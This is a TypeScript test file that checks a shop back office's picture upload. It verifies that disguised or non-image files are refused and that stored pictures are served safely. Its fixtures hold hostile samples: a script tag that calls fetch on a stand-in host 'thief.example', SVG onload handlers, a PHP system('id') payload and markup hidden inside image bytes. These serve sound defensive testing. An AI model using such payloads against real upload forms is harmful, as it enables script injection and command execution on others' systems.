import { afterAll, beforeAll, expect } from 'vitest'
import type { StaffRole } from '#domain/desk/staff-role.ts'
import { aStaff } from '#tests/integration/backend/desk/staff.ts'
import { aPhonePicture, aPicture } from '#tests/support/pictures.ts'
import { row } from './row.ts'
import { openSafetyShop, type SafetyShop } from './shop.ts'

let shop: SafetyShop
beforeAll(async () => {
  shop = await openSafetyShop()
})
afterAll(() => shop.close())

const markup = '<script>fetch("//thief.example")</script>'
const sauce = '/desk/catalog/products/FM-SOY'

async function cookieOf(role: StaffRole) {
  return (await aStaff({ db: shop.db, nowMs: shop.nowMs() }, role)).headers
}

/** What the browser says of a request from the shop's own page. */
const own = () => ({ origin: shop.origin, 'sec-fetch-site': 'same-origin' })

const sendBytes = async (bytes: Uint8Array | string, headers: Readonly<Record<string, string>>) =>
  shop.post('desk/pictures', { bytes: Buffer.from(bytes).toString('base64') }, { ...headers, ...own() })

/** Sends the form of a product with a file, whose name and type may lie. */
async function sendForm(file: File, headers: Readonly<Record<string, string>>) {
  const form = new FormData()
  form.set('imageFullurl.file', file)
  const answer = await shop.fetch(sauce, { method: 'POST', body: form, headers: { ...headers, ...own() } })
  return { status: answer.status, html: await answer.text() }
}

const joined = (...parts: readonly (Uint8Array | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)))

/** The files that are no picture to show, and what each is refused as. */
async function hostileFiles(): Promise<readonly (readonly [bytes: Uint8Array | string, refusal: string])[]> {
  const [jpeg, png, webp] = [
    await aPicture('jpeg', [40, 30]),
    await aPicture('png', [40, 30]),
    await aPicture('webp', [40, 30]),
  ]
  return [
    [`<!doctype html>${markup}`, '422 picture_type'],
    [`<svg xmlns="http://www.w3.org/2000/svg" onload="steal()">${markup}</svg>`, '422 picture_type'],
    [`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`, '422 picture_type'],
    ['MZ and a program', '422 picture_type'],
    [`GIF89a/*${markup}*/=1`, '422 picture_type'],
    [joined('\uFEFF', markup, jpeg), '422 picture_type'],
    [joined(jpeg, markup), '422 picture_markup'],
    [joined(png, '<SVG/onload=steal()>'), '422 picture_markup'],
    [joined(webp, '<?php system("id") ?>'), '422 picture_markup'],
    // In a comment, where it leaves the picture whole.
    [
      joined(jpeg.subarray(0, 2), new Uint8Array([0xff, 0xfe, 0, 17]), '<html onload=x>', jpeg.subarray(2)),
      '422 picture_markup',
    ],
    [jpeg.subarray(0, 12), '422 picture_type'],
    [await aPhonePicture('avif'), '422 picture_notes'],
    [await aPicture('png', [4097, 1]), '422 picture_large'],
    [new Uint8Array(6_000_000), '413 too_large'],
  ]
}

row('I23', 'a file that is no picture is never kept, whatever its name', async () => {
  const owner = await cookieOf('owner')
  const files = await hostileFiles()
  const refused: string[] = []
  for (const [bytes] of files) {
    const { status, body } = await sendBytes(bytes, owner)
    refused.push(`${status} ${body.code}`)
  }
  for (const [bytes, refusal] of files.filter(([, refusal]) => refusal.endsWith('picture_type'))) {
    const named = new File([Buffer.from(bytes)], 'photo.jpg', { type: 'image/jpeg' })
    const { status, html } = await sendForm(named, owner)
    expect([refusal, status, html.includes('This is no JPEG, PNG, WebP or AVIF')]).toEqual([refusal, 422, true])
  }
  const kept = await shop.db
    .prepare(`SELECT count(*) AS kept FROM desk_changes WHERE action = 'picture.added'`)
    .first<{ readonly kept: number }>()

  expect(refused).toEqual(files.map(([, refusal]) => refusal))
  expect(kept?.kept).toBe(0)
  return `${files.length} files, none kept`
})

row('I23', 'a picture is served as what its bytes are, and nothing in it runs', async () => {
  const owner = await cookieOf('owner')
  const types: string[] = []
  for (const kind of ['jpeg', 'png', 'webp'] as const) {
    const { status, body } = await sendBytes(await aPicture(kind, [40, 30]), owner)
    const { headers } = await shop.fetch(Object(body.data).address)
    types.push(`${status} ${headers.get('content-type')}`)
    expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox")
    expect(headers.get('x-content-type-options')).toBe('nosniff')
  }
  const evil = new File([await aPicture('png', [30, 40])], 'evil.html', { type: 'text/html' })
  const { html } = await sendForm(evil, owner)
  const address = /value="(\/pictures\/[^",]+)/.exec(html)?.[1] ?? ''
  const shown = await shop.fetch(address)

  expect(types).toEqual(['200 image/jpeg', '200 image/png', '200 image/webp'])
  expect([address.endsWith('.30x40.png'), shown.headers.get('content-type')]).toEqual([true, 'image/png'])
  expect((await shop.fetch('/pictures/evil.html')).headers.get('content-type')).toContain('text/html')
  expect((await shop.fetch('/pictures/evil.html')).status).toBe(404)
  return '4 pictures'
})

row('I23', 'only an owner sends pictures, and nothing large of anybody else is read', async () => {
  const picture = await aPicture('png', [40, 30])
  const answers: string[] = []
  for (const role of ['kitchen', 'editor'] as const) {
    const headers = await cookieOf(role)
    const call = await sendBytes(picture, headers)
    const form = await sendForm(new File([Buffer.from(picture)], 'a.png'), headers)
    answers.push(`${role} ${call.status} ${call.body.code} ${form.status}`)
  }
  const stranger = { cookie: `__Host-desk=${'0'.repeat(64)}` }
  const large = await sendForm(new File([Buffer.alloc(200_000)], 'a.png'), stranger)
  const called = await sendBytes(picture, stranger)

  expect(answers).toEqual(['kitchen 403 not_your_role 303', 'editor 403 not_your_role 303'])
  expect([large.status, called.status]).toEqual([413, 401])
  return '2 other roles and a stranger'
})
